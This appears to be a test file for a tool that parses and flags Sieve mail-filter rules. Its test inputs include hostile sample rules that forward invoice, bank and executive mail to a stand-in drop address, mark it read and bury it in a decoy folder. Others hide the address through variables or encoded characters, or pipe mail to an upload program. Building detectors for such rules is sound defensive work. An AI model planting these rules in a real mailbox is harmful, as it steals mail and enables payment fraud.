"""What a Sieve script does with mail: which mail it picks, and whether a copy stays."""

from __future__ import annotations

import pytest

from counterseal.providers.exports.selfhosted.sieve_rules import folder_name, rules
from counterseal.providers.exports.selfhosted.sieve_syntax import parse

TO = ("drop@evil.test",)


def read(source):
    script = parse(source)
    assert not script.errors
    return rules(script.commands)


def one(source):
    (rule,) = read(source).rules
    return rule


def test_the_rule_of_a_thief():
    rule = one(
        'require ["copy","fileinto","imap4flags","body"];\n# rule:[.]\n'
        'if anyof (header :contains ["subject"] ["invoice","付款"], body :text :contains "bank", address :is "from" "cfo@buyer.test")\n'
        '{ redirect :copy "drop@evil.test"; addflag "\\\\Seen"; fileinto :create "INBOX/RSS Feeds"; stop; }'
    )

    assert (rule.name, rule.forwards_to, rule.moves_to) == (".", TO, "INBOX/RSS Feeds")
    assert rule.words == ("invoice", "付款", "bank")
    assert rule.senders == ("cfo@buyer.test",)
    assert (rule.marks_read, rule.stops, rule.enabled, rule.keeps, rule.deletes) == (True, True, True, True, False)
    assert ("header :contains subject", "付款") in rule.conditions


@pytest.mark.parametrize(
    ("actions", "keeps", "deletes"),
    [
        ('redirect "drop@evil.test";', False, False),
        ('redirect :copy "drop@evil.test";', True, False),
        ('redirect "drop@evil.test"; keep;', True, False),
        ('redirect "drop@evil.test"; fileinto "Old";', True, False),
        ('redirect :copy "drop@evil.test"; discard;', False, True),
        ("discard;", True, True),
        ("discard; keep;", True, False),
        ('reject "no";', True, True),
        ('addflag "\\\\Deleted";', True, True),
        ('fileinto :flags "\\\\Seen" "Old";', True, False),
    ],
)
def test_whether_a_copy_stays(actions, keeps, deletes):
    rule = one(actions)

    assert (rule.keeps, rule.deletes) == (keeps, deletes)


def test_a_later_keep_for_all_mail_keeps_what_was_redirected():
    assert [rule.keeps for rule in read('redirect "drop@evil.test"; if true { stop; } keep;').rules] == [True]
    assert read('if true { redirect "drop@evil.test"; stop; } keep;').rules[0].keeps is False


def test_branches_carry_what_came_before_them():
    first, second, third = read(
        'if header "subject" "a" { discard; } elsif header "subject" "b" { discard; } else { fileinto "X"; }'
    ).rules

    assert first.conditions == (("header subject", "a"),)
    assert second.conditions == (("else", ""), ("header subject", "b"))
    assert third.conditions == (("else", ""),)


def test_blocks_inside_blocks_add_their_conditions():
    rule = one('if header "to" "sales@acme.test" { if size :over 1M { discard; } }')

    assert rule.conditions == (("header to", "sales@acme.test"), ("size :over", "1m"))
    assert rule.recipients == ("sales@acme.test",)


def test_what_is_excepted_is_no_word():
    rule = one('if not header :contains "subject" "newsletter" { discard; }')

    assert rule.words == ()
    assert rule.conditions == (("not header :contains subject", "newsletter"),)


@pytest.mark.parametrize(
    ("source", "enabled"),
    [
        ('# rule:[x]\nif false # header :is "a" "b"\n{ discard; }', False),
        ("if allof (true, false) { discard; }", False),
        ('if anyof (false, header "a" "b") { discard; }', True),
        ("if not false { discard; }", True),
    ],
)
def test_a_rule_that_never_holds_is_switched_off(source, enabled):
    assert one(source).enabled is enabled


@pytest.mark.parametrize(
    ("comment", "name"),
    [
        ("# rule:[Geld]", "Geld"), ("## Flag: |UniqueId:1|Rulename: Geld", "Geld"), ("# Blacklisted Addresses", "Blacklisted Addresses"),
        ("# Filter: Geld", "Geld"), ('# header :contains "a" "b";', ""), ("", ""),
    ],
)  # fmt: skip
def test_the_program_that_wrote_a_rule_names_it(comment, name):
    assert one(f"{comment}\nif true {{ discard; }}").name == name


def test_an_address_that_is_put_together_is_found():
    assert one('require "variables"; set "d" "evil.test"; redirect "drop@${d}";').forwards_to == TO
    assert one('require "encoded-character"; redirect "drop${hex:40}evil.test";').forwards_to == TO
    assert one('require "encoded-character"; redirect "drop${unicode:40}evil.test";').forwards_to == TO
    assert one('redirect "${unknown}";').forwards_to == ("${unknown}",)


def test_a_notice_to_an_address_is_a_copy():
    rule = one('if exists ["x"] { notify :message "hi" "mailto:drop%40evil.test?subject=x"; }')

    assert rule.copies_to == TO
    assert rule.conditions[0] == ("exists x", "")


def test_an_answer_is_no_rule():
    reading = read('require "vacation"; vacation :days 7 :subject "Away" :from "x@evil.test" "Write to x@evil.test";')

    assert not reading.rules
    assert [(answer.words, answer.subject, answer.sender) for answer in reading.answers] == [
        ("Write to x@evil.test", "Away", "x@evil.test")
    ]


def test_programs_of_the_server_and_other_scripts_are_named():
    assert one('execute :pipe "upload" ["x"];').conditions == (("execute", "upload x"),)
    assert read('include :personal "spam";').includes == ["spam"]
    assert read("frobnicate;").unknown == [(1, "frobnicate")]
    assert not read('if header "a" "b" { keep; }').rules
    assert one("foreverypart { discard; }").deletes


def test_folders_are_written_in_two_ways():
    assert folder_name("INBOX.&V4NXPpCuTvY-") == "INBOX.垃圾邮件"
    assert folder_name("R&-D") == "R&D"
    assert folder_name("垃圾邮件&x") == "垃圾邮件&x"
    assert folder_name("A&B") == "A&B"
    assert folder_name("&AA-") in {"&AA-", "\x00", ""}
